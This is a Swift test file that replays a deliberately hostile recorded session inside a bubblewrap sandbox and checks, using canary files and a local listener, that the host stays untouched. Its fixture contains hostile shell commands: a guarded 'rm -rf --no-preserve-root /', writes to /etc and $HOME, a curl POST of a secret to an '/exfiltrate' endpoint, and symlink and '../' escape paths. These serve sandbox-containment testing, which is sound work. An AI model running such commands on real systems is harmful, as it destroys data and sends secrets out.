import Glibc
import Recorder
import Replayer
import Testing
import TraceModel

/// A hostile session, built as events and never executed on the host, replayed in bubblewrap:
/// nothing outside the replay's workspace may change.
@Suite struct HostileReplayTests {
    /// Host state the replay must leave alone, and how to check it afterwards.
    struct Canaries {
        let tag = String(UInt64.random(in: 1...UInt64.max), radix: 36)
        let arena = TemporaryDirectory("hostile-replay")
        let home: String
        var homeCanary: String { home + "/.parallax-canary-" + tag }
        var pwned: [String] { ["/etc/parallax-pwned-" + tag, home + "/.parallax-pwned-" + tag, "/tmp/parallax-pwned-" + tag, arena.path + "/x"] }
        let etcHostname: [UInt8]?
        /// A listener the outbound request is aimed at: it must see no connection.
        let listener: Int32
        let port: UInt16

        init() throws {
            home = getenv("HOME").map { String(cString: $0) } ?? "/root"
            etcHostname = Disk.read("/etc/hostname")
            mkdir(arena.path + "/deep", 0o755)
            mkdir(arena.path + "/deep/er", 0o755)
            Disk.write(arena.path + "/canary", "canary")
            Disk.write(home + "/.parallax-canary-" + tag, "canary")
            let descriptor = socket(AF_INET, Int32(SOCK_STREAM.rawValue) | Int32(SOCK_NONBLOCK.rawValue), 0)
            var address = sockaddr_in()
            address.sin_family = sa_family_t(AF_INET)
            address.sin_addr.s_addr = inet_addr("127.0.0.1")
            let bound = withUnsafePointer(to: &address) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(descriptor, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) } }
            let listening = Glibc.listen(descriptor, 8)
            try #require(bound == 0 && listening == 0)
            var length = socklen_t(MemoryLayout<sockaddr_in>.size)
            _ = withUnsafeMutablePointer(to: &address) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(descriptor, $0, &length) } }
            listener = descriptor
            port = UInt16(bigEndian: address.sin_port)
        }

        func check() {
            #expect(Disk.text(arena.path + "/canary") == "canary")
            #expect(Disk.names(arena.path) == ["canary", "deep"])
            #expect(Disk.names(arena.path + "/deep/er") == ["root"])
            #expect(Disk.text(homeCanary) == "canary")
            for path in pwned { #expect(!Disk.exists(path), "\(path) was created on the host") }
            #expect(Disk.read("/etc/hostname") == etcHostname)
            #expect(Disk.exists("/usr/bin/env") && Disk.exists("/etc/passwd"))
            let connection = accept(listener, nil, nil)
            #expect(connection < 0 && (errno == EAGAIN || errno == EWOULDBLOCK), "the sandbox reached a host listener")
            if connection >= 0 { close(connection) }
        }

        func remove() {
            close(listener)
            unlink(homeCanary)
            arena.remove()
        }
    }

    @Test func aHostileSessionChangesNothingOutsideTheReplayWorkspace() throws {
        let canaries = try Canaries()
        defer { canaries.remove() }
        let root = "/home/victim/project"
        let content = Array("payload\n".utf8)
        let digest = Digest.sha256(content)
        var fixture = try SessionFixture(root: root, entries: [
            .file("ok.txt", size: UInt64(content.count), digest: digest),
            .file("../../x", size: UInt64(content.count), digest: digest),
            .symlink("rootlink", target: "/"),
            .file("rootlink/tmp/parallax-pwned-" + canaries.tag, size: UInt64(content.count), digest: digest),
        ], contents: [content], env: ["HOME": canaries.home])
        let tag = canaries.tag
        // Only ever destructive inside a PID namespace whose init is bubblewrap.
        fixture.exec("[ \"$(cat /proc/1/comm)\" = bwrap ] && rm -rf --no-preserve-root / 2>/dev/null; ls /home/victim/project | wc -l", cwd: root, stdout: "0\n")
        fixture.exec("echo pwned > /etc/parallax-pwned-\(tag); echo pwned > $HOME/.parallax-pwned-\(tag); echo pwned > $HOME/.parallax-canary-\(tag)", cwd: root)
        fixture.exec("curl -s -m 3 -X POST -d secret http://127.0.0.1:\(canaries.port)/exfiltrate; echo sent", cwd: root, stdout: "accepted\nsent\n")
        fixture.exec("ln -s / up; echo pwned > up/tmp/parallax-pwned-\(tag); ln -s ../../.. climb; echo pwned > climb/x", cwd: root)
        try fixture.write("../../x", "pwned\n")
        try fixture.write("sub/../../../x", "pwned\n")
        fixture.add(.fileWrite, data: ["path": .string("escape"), "type": .string("symlink"), "target": .string("/etc"),
                                       "after": .string(Digest.sha256(Array("/etc".utf8)).description)])
        try fixture.write("escape/parallax-pwned-\(tag)", "pwned\n")
        fixture.end()

        let replay = ActionReplay(session: try fixture.session(), blobs: fixture.blobs, sandbox: try BubblewrapSandbox(),
                                  workspace: canaries.arena.path + "/deep/er/root")
        let (report, trace) = try replay.run(sandboxName: "bubblewrap")
        canaries.check()
        // The snapshot's escaping entries were refused, the rest written (and then deleted by rm -rf).
        #expect(Set(report.materialized.refused.map(\.path)) == ["../../x", "rootlink", "rootlink/tmp/parallax-pwned-\(tag)"])
        // rm -rf / ran inside the sandbox: the only thing it could delete that outlives it is the workspace's file.
        let firstExec = try #require(trace.events.first { $0.kind == .processExec })
        #expect(trace.events.filter { $0.cause == firstExec.seq }.map { "\($0.kind) \($0.data["path"]?.stringValue ?? "")" } == ["file.delete ok.txt"])
        // Writes to /etc fail (read-only), $HOME is not the host's: the step's output says so, the host is unchanged.
        #expect(report.steps[1].verdict == .diverged)
        #expect(report.steps[2].verdict == .diverged)
        #expect(report.steps[2].cause == .network)
        let edits = report.steps.filter { $0.kind == "edit" }
        #expect(edits.count == 4)
        #expect(edits[0].verdict == .skipped && edits[0].reason?.contains("..") == true)
        #expect(edits[1].verdict == .skipped)
        #expect(edits[2].verdict == .skipped && edits[2].reason?.contains("absolute") == true)
        #expect(edits[3].verdict == .match, "a plain directory named escape is created inside the workspace")
        #expect(Disk.status(canaries.arena.path + "/deep/er/root/escape").map { $0.st_mode & S_IFMT == S_IFDIR } == true)
    }
}
